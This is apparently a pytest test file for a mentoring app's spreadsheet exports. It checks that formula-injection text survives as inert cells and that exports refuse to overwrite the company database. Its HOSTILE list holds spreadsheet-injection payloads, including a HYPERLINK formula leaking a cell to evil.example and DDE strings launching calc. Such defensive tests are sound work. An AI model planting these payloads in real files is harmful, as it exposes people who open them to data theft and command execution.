"""Relationships, meetings, goals and check-ins exported to .xlsx and .csv: no cell can run as a formula.

Real files: a company file filled through the services with text a participant could type
(formula triggers, tab and CR first, a quote first, a control character), exported, then read
back with openpyxl and the csv module. The CLI runs as a real process.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from mentordesk.errors import ValidationError
from mentordesk.models import Person
from mentordesk.people_csv.cells import TRIGGERS, unescape_cell
from mentordesk.services import exports
from mentordesk.services import relationships as svc
from mentordesk.storage import people_repo, rows
from mentordesk.storage.database import Database
from mentordesk.storage.outputs import OutputRefused

D = dt.date
TODAY = D(2026, 6, 1)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''two quotes",
    "'t Hart",
    "=1+1\n=2+2",
]
TABLE_NAMES = ("relationships", "meetings", "goals", "checkins")


def _hostile_file(path: Path) -> Path:
    """A file whose every free-text field of every table holds a hostile value."""
    db = Database.open(path)
    try:
        ids = {}
        with db.transaction() as conn:
            pid = rows.insert(conn, "programs", {"name": "=PROGRAM()", "relationship_months": 6,
                                                 "cadence": "monthly"})
            for n, emp in enumerate(("A", "B", "C", "D")):
                ids[emp] = people_repo.insert_person(conn, Person(
                    employee_id=f"-E{n}", name=f"@Name {emp}", email=f"{emp.lower()}@example.com",
                    department="+Sales"))
        rels = [svc.start_relationship(db, ids["A"], ids["B"], program_id=pid, start=D(2026, 1, 5)),
                svc.start_relationship(db, ids["C"], ids["D"], program_id=pid, start=D(2026, 1, 5))]
        for i, text in enumerate(HOSTILE):
            rel = rels[i % 2]
            svc.log_meeting(db, rel, D(2026, 2, 1) + dt.timedelta(days=i), 45, "held", topics=text,
                            notes=text, today=TODAY)
            svc.add_goal(db, rel, title=text, description=text, success_measure=text)
            svc.record_checkin(db, rel, "mentee", D(2026, 3, 1) + dt.timedelta(days=i),
                               {"trust_respect": 4}, {"trust_respect": text}, today=TODAY)
        with db.transaction() as conn:  # as merged in from an older file: the HR summary holds any text
            rows.update(conn, "relationships", rels[0], {"hr_summary": HOSTILE[0] + "\x01bell"})
            rows.update(conn, "relationships", rels[1], {"hr_summary": HOSTILE[1]})
    finally:
        db.close()
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    return _hostile_file(tmp_path / "company.db")


def _export(path: Path, table: str, out: Path) -> int:
    db = Database.open(path, readonly=True)
    try:
        return exports.export_table(db, table, out)
    finally:
        db.close()


def _xlsx_cells(path: Path) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(path)
    return [list(r) for r in book.worksheets[0].iter_rows()]


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("table", TABLE_NAMES)
def test_xlsx_every_text_is_a_string_cell_never_a_formula(hostile: Path, tmp_path: Path, table: str) -> None:
    out = tmp_path / f"{table}.xlsx"
    n = _export(hostile, table, out)
    cells = _xlsx_cells(out)
    assert n == len(cells) - 1 and n >= 2
    assert os.stat(out).st_mode & 0o777 == 0o600
    types = {c.data_type for row in cells for c in row}
    assert "f" not in types
    texts = [c.value for row in cells for c in row if isinstance(c.value, str)]
    for row in cells:
        for c in row:
            if isinstance(c.value, str):
                assert c.data_type == "s", (c.coordinate, c.value)
                if c.value[:1] in TRIGGERS:
                    assert c.quotePrefix, (c.coordinate, c.value)  # stays text when edited in Excel
    # Each table carries the hostile text exactly as typed (no quote added, nothing lost).
    if table == "relationships":
        assert HOSTILE[1] in texts and any(t.startswith(HOSTILE[0]) for t in texts)
        assert "@Name A" in texts and "-E0" in texts and "+Sales" in texts and "=PROGRAM()" in texts
    else:  # XML keeps no carriage return: a CR is written as the line feed every reader would see
        assert {h.replace("\r", "\n") for h in HOSTILE} <= set(texts)


@pytest.mark.parametrize("table", TABLE_NAMES)
def test_csv_cells_are_escaped_and_read_back_exactly(hostile: Path, tmp_path: Path, table: str) -> None:
    out = tmp_path / f"{table}.csv"
    n = _export(hostile, table, out)
    data = _csv_rows(out)
    assert n == len(data) - 1 and n >= 2
    assert os.stat(out).st_mode & 0o777 == 0o600
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads accents right
    for row in data:
        for cell in row:
            assert cell[:1] not in TRIGGERS, cell
    values = {unescape_cell(cell) for row in data for cell in row}
    wanted = {HOSTILE[1], "@Name A", "-E0", "+Sales", "=PROGRAM()"} if table == "relationships" else set(HOSTILE)
    assert wanted <= values, wanted - values


@pytest.mark.parametrize("table", TABLE_NAMES)
def test_csv_and_xlsx_hold_the_same_values(hostile: Path, tmp_path: Path, table: str) -> None:
    _export(hostile, table, tmp_path / "t.csv")
    _export(hostile, table, tmp_path / "t.xlsx")
    from_csv = [[unescape_cell(c) for c in row] for row in _csv_rows(tmp_path / "t.csv")]
    from_xlsx = []
    for row in _xlsx_cells(tmp_path / "t.xlsx"):
        out = []
        for c in row:
            v = c.value
            if isinstance(v, dt.datetime):
                v = v.date().isoformat()
            out.append("" if v is None else str(v))
        from_xlsx.append(out)
    # xlsx cannot hold control characters: they are shown as U+FFFD there, the CSV keeps them;
    # and XML turns CR into LF.
    from_csv = [[c.replace("\x01", "\ufffd").replace("\r", "\n") for c in row] for row in from_csv]
    assert [[_number_or_text(c) for c in row] for row in from_csv] == \
        [[_number_or_text(c) for c in row] for row in from_xlsx]


def _number_or_text(cell: str) -> float | str:
    """4.0 in a CSV is the number 4 Excel stores; text stays text."""
    try:
        return float(cell)
    except ValueError:
        return cell


def test_rows_follow_the_data_not_a_fixed_count(hostile: Path, tmp_path: Path) -> None:
    before = _export(hostile, "meetings", tmp_path / "a.csv")
    db = Database.open(hostile)
    try:
        rel = svc.list_relationships(db, today=TODAY)[0].id
        svc.log_meeting(db, rel, D(2026, 5, 1), 30, "held", topics="=extra", today=TODAY)
    finally:
        db.close()
    assert _export(hostile, "meetings", tmp_path / "b.csv") == before + 1
    assert "'=extra" in (tmp_path / "b.csv").read_text(encoding="utf-8-sig")


def test_refuses_company_file_and_unknown_endings(hostile: Path, tmp_path: Path) -> None:
    original = hostile.read_bytes()
    for bad in (hostile, hostile.with_name("company.db-journal.csv").with_name(hostile.name)):
        with pytest.raises(ValidationError):
            _export(hostile, "goals", bad)
    with pytest.raises(ValidationError, match=r"\.xlsx"):
        _export(hostile, "goals", tmp_path / "goals.txt")
    assert not (tmp_path / "goals.txt").exists()
    # The company file under a name ending in .xlsx (a symlink) is still the company file.
    link = tmp_path / "sneaky.xlsx"
    link.symlink_to(hostile)
    with pytest.raises(OutputRefused):
        _export(hostile, "relationships", link)
    assert hostile.read_bytes() == original


def _run(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MENTORDESK_")}
    env.update(MENTORDESK_CONFIG_DIR=str(home / "config"), MENTORDESK_DATA_DIR=str(home / "data"),
               MENTORDESK_SITE="test-site", LANG="C.UTF-8")
    return subprocess.run([sys.executable, "-m", "mentordesk", *args], capture_output=True, text=True,
                          timeout=120, env=env, cwd=str(home))


@pytest.mark.parametrize("ending", ["xlsx", "csv", "XLSX"])
def test_cli_exports_each_table_by_the_file_ending(hostile: Path, tmp_path: Path, ending: str) -> None:
    for table in TABLE_NAMES:
        out = tmp_path / f"{table}.{ending}"
        done = _run(tmp_path, "--db", str(hostile), "export", table, str(out))
        assert done.returncode == 0, done.stderr
        assert str(out.name) in done.stdout and "Exported" in done.stdout
        if ending.lower() == "xlsx":
            cells = _xlsx_cells(out)
            assert all(c.data_type != "f" for row in cells for c in row)
            assert int(done.stdout.split()[1]) == len(cells) - 1
        else:
            assert int(done.stdout.split()[1]) == len(_csv_rows(out)) - 1


def test_cli_refuses_the_company_file_in_plain_words(hostile: Path, tmp_path: Path) -> None:
    original = hostile.read_bytes()
    done = _run(tmp_path, "--db", str(hostile), "export", "meetings", str(hostile))
    assert done.returncode == 1
    assert done.stderr.startswith("mentordesk: ") and "Traceback" not in done.stderr
    bad = _run(tmp_path, "--db", str(hostile), "export", "people", str(tmp_path / "p.xlsx"))
    assert bad.returncode != 0 and not (tmp_path / "p.xlsx").exists()
    assert hostile.read_bytes() == original
